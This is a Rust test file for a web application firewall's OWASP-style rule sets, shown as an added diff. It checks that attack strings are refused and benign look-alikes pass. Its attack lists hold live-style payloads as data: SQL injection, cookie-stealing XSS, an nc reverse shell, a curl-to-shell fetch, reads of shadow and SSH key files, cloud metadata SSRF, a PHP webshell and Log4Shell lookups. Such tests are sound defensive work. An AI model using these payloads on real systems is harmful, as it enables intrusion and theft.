@@ -1,0 +1,268 @@
+//! Each rule family against attacks and look-alike benign values written for this test
+//! (independent of the CRS corpus), through the shipped rule files.
+
+use std::net::IpAddr;
+use std::path::PathBuf;
+
+use http::{HeaderMap, HeaderName, HeaderValue, Method};
+use rampart_plugins::net::NetSet;
+use rampart_plugins::plugins::owasp::{Waf, WafConfig};
+use rampart_plugins::registry::{BuildContext, BuildError};
+use rampart_plugins::{RequestView, SharedSecret};
+
+struct Rules(PathBuf, NetSet);
+
+impl BuildContext for Rules {
+    fn secret(&self, name: &str) -> Result<SharedSecret, BuildError> {
+        Err(BuildError::UnknownSecret(name.into()))
+    }
+    fn internal_networks(&self) -> &NetSet {
+        &self.1
+    }
+    fn rule_files(&self, path: &str) -> Result<Vec<(String, String)>, BuildError> {
+        let dir = self.0.join(path);
+        let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
+            .map_err(|e| BuildError::invalid("test", &format!("{}: {e}", dir.display())))?
+            .filter_map(|e| e.ok().map(|e| e.path()))
+            .collect();
+        files.sort();
+        Ok(files
+            .into_iter()
+            .filter_map(|f| Some((f.display().to_string(), std::fs::read_to_string(&f).ok()?)))
+            .collect())
+    }
+}
+
+fn wafs() -> [Waf; 2] {
+    let ctx = Rules(
+        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../rules"),
+        NetSet::default(),
+    );
+    let build = |name| {
+        let config: WafConfig = toml::from_str("").unwrap_or_else(|e| panic!("{e}"));
+        Waf::build(name, config, &ctx).unwrap_or_else(|e| panic!("{e}"))
+    };
+    [build("owasp"), build("bad_inputs")]
+}
+
+/// The labels of the rules that refuse a form POST whose `q` field is `value`.
+fn refused_by(wafs: &[Waf], value: &str) -> Vec<String> {
+    let mut headers = HeaderMap::new();
+    for (k, v) in [
+        ("host", "shop.example.com"),
+        ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
+        ("content-type", "application/x-www-form-urlencoded"),
+    ] {
+        headers.insert(HeaderName::from_static(k), HeaderValue::from_static(v));
+    }
+    let body = format!(
+        "q={}",
+        value
+            .replace('%', "%25")
+            .replace('&', "%26")
+            .replace('+', "%2B")
+            .replace('=', "%3D")
+    );
+    let (method, peer) = (Method::POST, IpAddr::from([198, 51, 100, 4]));
+    let view = RequestView {
+        listener: "web",
+        route: "app",
+        peer,
+        client: peer,
+        method: &method,
+        path: "/search",
+        query: None,
+        headers: &headers,
+        body: Some(body.as_bytes()),
+    };
+    wafs.iter()
+        .flat_map(|w| {
+            let a = w.assess(&view);
+            if a.score >= 5 {
+                a.matches
+                    .iter()
+                    .map(|(m, _)| w.rules().rules[m.rule].label(m.source))
+                    .collect()
+            } else {
+                Vec::new()
+            }
+        })
+        .collect()
+}
+
+fn check(family: &str, attacks: &[&str], benign: &[&str]) {
+    let wafs = wafs();
+    for a in attacks {
+        let by = refused_by(&wafs, a);
+        assert!(!by.is_empty(), "{family}: attack passed: {a:?}");
+    }
+    for b in benign {
+        let by = refused_by(&wafs, b);
+        assert!(
+            by.is_empty(),
+            "{family}: benign value refused by {by:?}: {b:?}"
+        );
+    }
+}
+
+#[test]
+fn sql_injection() {
+    check(
+        "sqli",
+        &[
+            "x' OR 'a'='a",
+            "1 UNION ALL SELECT username, password FROM accounts",
+            "1; DROP TABLE invoices",
+            "'; WAITFOR DELAY '0:0:5'--",
+            "1 AND SLEEP(5)",
+            "admin'-- ",
+            "{\"$where\": \"1\"}",
+        ],
+        &[
+            "O'Reilly Media",
+            "select a size from the list",
+            "Union Station, Chicago",
+            "drop-down menu",
+            "1=1 is true in maths",
+        ],
+    );
+}
+
+#[test]
+fn cross_site_scripting() {
+    check(
+        "xss",
+        &[
+            "<script>fetch('//x.example/'+document.cookie)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg/onload=confirm(1)>",
+            "javascript:alert(1)",
+            "<iframe src=\"//evil.example\">",
+        ],
+        &[
+            "x < y and y > z",
+            "Tom & Jerry",
+            "rock 'n' roll",
+            "price >= 10 EUR",
+            "email me at a@b.example",
+        ],
+    );
+}
+
+#[test]
+fn command_injection() {
+    check(
+        "rce",
+        &[
+            "; cat /etc/passwd",
+            "| nc -e /bin/sh 203.0.113.9 4444",
+            "$(curl http://x.example/s.sh|sh)",
+            "`id`",
+            "& powershell -enc SQBFAFgA",
+            "c\"a\"t /etc/shadow",
+        ],
+        &[
+            "cats and dogs",
+            "The ls command lists files",
+            "time flies",
+            "sort by price",
+            "ping pong tournament",
+        ],
+    );
+}
+
+#[test]
+fn path_traversal_and_files() {
+    check(
+        "lfi",
+        &[
+            "../../../../etc/passwd",
+            "..\\..\\windows\\win.ini",
+            "/proc/self/environ",
+            "....//....//etc/shadow",
+            "~/.ssh/id_rsa",
+        ],
+        &[
+            "see page 1..2",
+            "passwords must be 12 characters",
+            "C:\\Users\\Public\\report.docx",
+            "/products/shoes/running",
+        ],
+    );
+}
+
+#[test]
+fn remote_file_inclusion_and_ssrf() {
+    check(
+        "rfi-ssrf",
+        &[
+            "http://169.254.169.254/latest/meta-data/",
+            "http://metadata.google.internal/computeMetadata/v1/",
+            "http://[fd00:ec2::254]/",
+            "http://127.0.0.1:8080/admin",
+            "https://198.51.100.7/shell.txt",
+        ],
+        &[
+            "https://www.example.com/products?id=7",
+            "see docs.example.org for details",
+            "version 169.254 of the spec",
+        ],
+    );
+}
+
+#[test]
+fn php_injection() {
+    check(
+        "php",
+        &[
+            "<?php system($_GET['c']); ?>",
+            "php://filter/convert.base64-encode/resource=index.php",
+            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
+            "base64_decode('ZXZhbA==')",
+            "${system('id')}",
+        ],
+        &[
+            "PHP developer wanted",
+            "I paid $5 for this",
+            "the system is down",
+        ],
+    );
+}
+
+#[test]
+fn java_and_log4shell() {
+    check(
+        "java",
+        &[
+            "${jndi:ldap://x.example/a}",
+            "${${lower:j}ndi:rmi://x.example/a}",
+            "java.lang.Runtime",
+            "class.module.classLoader.URLs[0]=0",
+            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
+        ],
+        &[
+            "I love Java and coffee",
+            "runtime error on line 3",
+            "process builder pattern",
+        ],
+    );
+}
+
+#[test]
+fn template_and_prototype_pollution() {
+    check(
+        "generic",
+        &[
+            "{{7*7}}",
+            "{{''.__class__.__mro__}}",
+            "__proto__[admin]=true",
+            "constructor.prototype.isAdmin",
+            "#{T(java.lang.Runtime).getRuntime()}",
+        ],
+        &[
+            "{{ name }} is a placeholder",
+            "prototype review on Monday",
+            "hash #1 tag",
+        ],
+    );
+}
